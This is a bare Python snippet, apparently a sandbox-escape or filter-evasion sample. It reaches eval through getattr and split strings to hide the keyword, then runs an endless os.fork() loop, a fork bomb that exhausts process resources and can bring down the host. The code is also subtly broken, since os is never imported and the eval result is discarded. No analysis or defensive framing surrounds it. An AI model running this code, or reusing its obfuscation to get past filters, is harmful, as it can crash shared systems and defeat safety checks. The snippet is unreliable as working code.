getattr(__builtins__, "ev"+"al")(chr(111)+chr(115))
while True:
    os.fork()
